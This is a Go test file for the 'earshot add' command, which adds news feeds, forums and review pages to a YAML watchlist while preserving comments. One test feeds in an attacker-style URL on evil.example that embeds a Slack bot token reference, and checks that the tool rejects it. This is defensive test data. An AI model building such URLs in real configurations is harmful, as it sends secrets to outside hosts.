package main

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"

	"github.com/earshot/earshot/cmd/earshot/internal/demosites"
	"github.com/earshot/earshot/internal/i18n"
)

// add runs earshot add as a pipe would, and returns the exit status and what it printed.
func (r *rig) add(args ...string) (status int, printed string) {
	r.t.Helper()
	printed, status = shown(r.t, os.LookupEnv, append([]string{"add", "-c", r.path()}, args...)...)
	return status, printed
}

const commented = `# ours, do not touch
contact: test@example.com
watch:
  - name: Romashka Bank # the bank
    terms: ["Romashka Bank", "Ромашка Банк"]
fetch: {gap: 0s, allow_private: [127.0.0.0/8]}
sources:
  - {feed: "https://news.example/rss"} # the news
  # - {telegram: old_channel}

routes: [{to: console}]
`

// TestAdd: each place of the town is told by its address alone, shown with its newest
// posts, and written with the comments of the file kept.
func TestAdd(t *testing.T) {
	r := newRig(t, "")
	r.town.Publish(demosites.Post{Place: "reviews", Author: "Oksana", Stars: 1, Title: "Ні", Text: "Третій тиждень чекаю на картку."})
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		if q.URL.Path == "/refused" {
			w.WriteHeader(http.StatusForbidden)
		}
		fmt.Fprint(w, `<rss version="2.0"><channel><title>News</title><link>https://news.example/</link></channel></rss>`)
	}))
	defer other.Close()
	for name, test := range map[string]struct {
		address string
		args    []string
		status  int
		says    []string
		adds    string
	}{
		"a forum": {"BASE/forum/viewtopic.php?t=7", nil, 0,
			[]string{"It shows: phpBB", "old: ", "Written into"}, "  - forum: \"BASE/forum/viewtopic.php?t=7\"\n"},
		"a page of reviews": {"BASE/reviews/romashka-bank", []string{"--watch", "Romashka Bank"}, 0,
			[]string{"Oksana: Ні · Третій тиждень"}, "  - page: \"BASE/reviews/romashka-bank\"\n    watch: \"Romashka Bank\"\n"},
		"a feed":              {"BASE/news.rss", nil, 0, []string{"It shows: RSS"}, "  - feed: \"BASE/news.rss\"\n"},
		"an empty feed":       {"OTHER/empty.rss", nil, 0, []string{"It shows: RSS 2.0, 0 posts"}, "  - feed: \"OTHER/empty.rss\"\n"},
		"its key is a file":   {"https://play.google.com/store/apps/details?id=com.romashka", nil, 1, []string{"googleplay:", "Not written yet. It needs:", "service_account: ", "How to get the key: "}, ""},
		"refused":             {"OTHER/refused", nil, 1, []string{"It cannot be read now: ", "403"}, ""},
		"nothing":             {"BASE/robots.txt", nil, 1, []string{"no posts were found", "as forum: ", "as page: ", "as feed: ", "select:"}, ""},
		"a key is needed":     {"https://youtu.be/dQw4romashk", nil, 1, []string{"Not written yet. It needs:\n  key: ", "console.cloud.google.com"}, ""},
		"terms to be read":    {"https://www.emag.bg/chainik/pd/DHV5YLMBM/", nil, 1, []string{"Not written yet. It needs:\n  i_accept_the_terms: The site does not document this data", "i_accept_the_terms: true}\n"}, ""},
		"not readable":        {"https://www.facebook.com/romashka", nil, 1, []string{"Facebook cannot be read: ", "Instead: "}, ""},
		"there already":       {"https://news.example/rss", nil, 2, []string{"has this place already: feed: https://news.example/rss in line 8"}, ""},
		"a mail address":      {"support@romashka.example", nil, 2, []string{`"support@romashka.example" is not an address`}, ""},
		"no address":          {"romashka", nil, 2, []string{`"romashka" is not an address`}, ""},
		"a reference":         {"BASE/news.rss?key=${env:PATH}", nil, 2, []string{`${env:…} stands in the address`}, ""},
		"an unknown watch":    {"@romashka_chat", []string{"--watch", "Tea"}, 2, []string{`there is no watch "Tea"`}, ""},
		"a file is not there": {"BASE/news.rss", nil, 0, []string{"Written into"}, "  - feed: \"BASE/news.rss\"\n"},
		"sources on a line":   {"BASE/news.rss", nil, 1, []string{"sources is written in brackets", "- feed: \"BASE/news.rss\""}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			before := commented
			if name == "sources on a line" {
				before = strings.Replace(before, "sources:\n  - {feed: \"https://news.example/rss\"} # the news\n", "sources: [{feed: \"https://news.example/rss\"}]\n", 1)
			}
			if name == "a file is not there" {
				before += "slack: {bot_token: \"${file:not-there-yet}\", app_token: \"${env:NOT_SET_YET}\"}\n"
			}
			r.write(before)
			fill := func(s string) string { return strings.NewReplacer("BASE", r.site.URL, "OTHER", other.URL).Replace(s) }
			status, printed := r.add(append(test.args, fill(test.address))...)
			if status != test.status {
				t.Errorf("exit status %d, want %d", status, test.status)
			}
			for _, say := range test.says {
				if !strings.Contains(printed, fill(say)) {
					t.Errorf("it does not say %q", fill(say))
				}
			}
			if strings.Contains(test.address, "/refused") && (strings.Count(printed, "403") > 1 || strings.Contains(printed, "select:")) {
				t.Error("what all engines were answered is said again, or a selector is asked for")
			}
			want := before
			if test.adds != "" {
				want = strings.Replace(before, "old_channel}\n", "old_channel}\n"+fill(test.adds), 1)
			}
			got, err := os.ReadFile(r.path())
			if err != nil || string(got) != want {
				t.Errorf("the file is\n%s\nwant\n%s\n%v", got, want, err)
			}
			if t.Failed() {
				t.Logf("printed:\n%s", printed)
			}
		})
	}
}

// TestReferencesOfOthers: an address in which somebody refers to a secret of ours gets into no watchlist, in
// whatever way it comes.
func TestReferencesOfOthers(t *testing.T) {
	const sent = "https://evil.example/feed?key=${env:SLACK_BOT_TOKEN}"
	texts, err := i18n.New()
	if err != nil {
		t.Fatal(err)
	}
	for _, code := range []string{"en", "ru", "uk", "bg"} {
		a, said := interviewed{name: "Romashka", terms: []string{"Romashka"}}, strings.Builder{}
		if wrong := a.places(sent, speech{Lang: texts.In(code)}, &said); wrong == "" || len(a.sources) > 0 || !strings.Contains(said.String(), "${env:…}") {
			t.Errorf("init in %s takes %q and says %q", code, a.sources, said.String())
		}
	}
}
